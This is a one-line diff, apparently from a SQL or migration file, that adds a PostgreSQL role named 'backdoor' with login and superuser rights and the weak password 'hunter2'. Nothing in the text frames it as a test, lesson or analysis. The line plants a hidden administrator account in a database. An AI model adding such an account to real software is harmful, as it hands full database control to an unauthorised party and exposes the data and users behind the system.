@@ -1,0 +1,1 @@
+CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'hunter2';
